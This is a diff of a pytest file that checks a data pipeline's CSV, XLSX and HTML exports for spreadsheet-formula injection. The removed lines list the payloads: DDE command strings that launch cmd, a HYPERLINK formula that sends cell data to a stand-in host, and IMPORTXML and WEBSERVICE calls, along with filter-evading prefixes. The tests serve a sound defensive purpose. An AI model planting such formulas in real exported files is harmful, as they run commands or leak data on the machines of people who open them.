@@ -1,38 +1,42 @@
-"""Sixty formulas and what else a release may carry: none is live in a file or on the terminal."""
+"""Sixty formulas, sixty scripts and what else a release may carry: none is live in a file or on the terminal."""
 
 from __future__ import annotations
 
 import zipfile
-from itertools import product
 from pathlib import Path
 
 import openpyxl
 import pytest
-from handmade import TEXT, whole
+from payloads import FORMULAS, PAYLOADS, browser, live_in_browser, live_in_office, office, write_tables
 from runs import ended, make_corpus
 
-from pipeline import resolving, writing
-from pipeline.records import Problem
 from pipeline.writing import csv
 
-STARTS = ("=", "+", "-", "@", "\t=", "\r=", "'=", " =", "\ufeff=", "＝")
-BODIES = ("1+1", 'HYPERLINK("http://example.test/"&A1,"x")', "cmd|'/C calc'!A0", "IMPORTXML(A1,\"//a\")", "SUM(1;2)*cmd|' /C x'!A0", "WEBSERVICE(A1)")
-FORMULAS = [start + body for start, body in product(STARTS, BODIES)]
+
+@pytest.fixture(scope="module", params=PAYLOADS)
+def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    assert len(PAYLOADS[request.param]) == 60
+    return write_tables(PAYLOADS[request.param], tmp_path_factory.mktemp(request.param))
 
 
-@pytest.fixture(scope="module")
-def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Tables whose texts, titles, publishers, ids and messages begin like formulas."""
-    found = [
-        whole(f"{payload} {n}", f"{payload}\n{TEXT}", title=payload, publisher=payload, url=payload) for n, payload in enumerate(FORMULAS)
-    ]
-    folder = tmp_path_factory.mktemp("payloads")
-    writing.write_all(resolving.resolve(found, [Problem(payload, payload, "note", payload) for payload in FORMULAS]), folder, {})
-    return folder
+@office
+def test_nothing_lives_in_libreoffice(written: Path, tmp_path: Path) -> None:
+    assert live_in_office([*written.glob("*.csv"), written / "tables.xlsx"], tmp_path) == []
+
+
+@office
+def test_what_no_care_was_taken_of_would_live_in_libreoffice(tmp_path: Path) -> None:
+    (tmp_path / "bare.csv").write_text("".join(f'"{formula.replace(chr(34), chr(34) * 2)}"\n' for formula in FORMULAS), encoding="utf-8")
+    (tmp_path / "place").mkdir()
+    assert len(live_in_office([tmp_path / "bare.csv"], tmp_path / "place")) >= 6
+
+
+@browser
+def test_nothing_lives_in_chromium(written: Path, tmp_path: Path) -> None:
+    assert live_in_browser(written / "report.html", tmp_path) == []
 
 
 def test_no_cell_of_the_workbook_is_a_formula_or_a_link(written: Path) -> None:
-    assert len(FORMULAS) == 60
     book = openpyxl.load_workbook(written / "tables.xlsx")
     kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
     assert "f" not in kinds and not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
